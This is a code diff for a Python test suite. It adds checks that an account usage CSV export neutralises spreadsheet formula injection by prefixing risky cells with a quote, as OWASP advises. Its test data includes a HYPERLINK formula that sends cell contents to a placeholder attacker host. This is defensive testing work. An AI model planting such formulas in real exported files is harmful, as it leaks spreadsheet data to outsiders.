@@ -191,7 +191,26 @@ def test_event_rows_are_formatted_as_orjson_and_the_csv_module_would():
     ]
     assert export._event_lines(rows, stamp) == b",\n".join(expected_json)
     buffer = io.StringIO()
-    csv.writer(buffer).writerows((r[0], iso(r[1]), *r[2:11], bool(r[11]), bool(r[12])) for r in rows)
+    inert = lambda v: "'" + v if isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r")) else v  # noqa: E731
+    csv.writer(buffer).writerows((r[0], iso(r[1]), *map(inert, r[2:11]), bool(r[11]), bool(r[12])) for r in rows)
     assert export._csv_lines(rows, stamp, export._CsvText()) == buffer.getvalue()
     for ts in range(1_700_000_000_000, 1_700_000_000_000 + 200_000_000, 999_983):
         assert stamp(ts) == iso(ts)
+
+
+async def test_csv_cells_a_spreadsheet_would_run_are_made_inert(daemon):
+    """A text cell starting with =, +, -, @, a tab or a CR opens as text: a leading ' as OWASP advises."""
+    await daemon.create_key(EMAIL)
+    account = await daemon.app[ACCOUNTS].get_account(EMAIL)
+    now = int(daemon.clock.now() * 1000)
+    nasty = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain-model"]
+    await daemon.app[LEDGER].append_usage([
+        UsageEvent(ts=now - i, model=model, endpoint="chat/completions", status=200, latency_ms=1.0,
+                   account_id=account.id, key_id="key_x", provider="simulator")
+        for i, model in enumerate(nasty)
+    ])
+    status, _, body = await get(daemon, f"/admin/v1/accounts/{EMAIL}/export", daemon.admin_headers, format="csv")
+    assert status == 200
+    models = {row["model"] for row in csv.DictReader(io.StringIO(body.decode(), newline=""))}
+    assert models == {"'" + m for m in nasty[:-1]} | {"plain-model"}
+    assert not any(m.startswith(("=", "+", "-", "@", "\t", "\r")) for m in models)
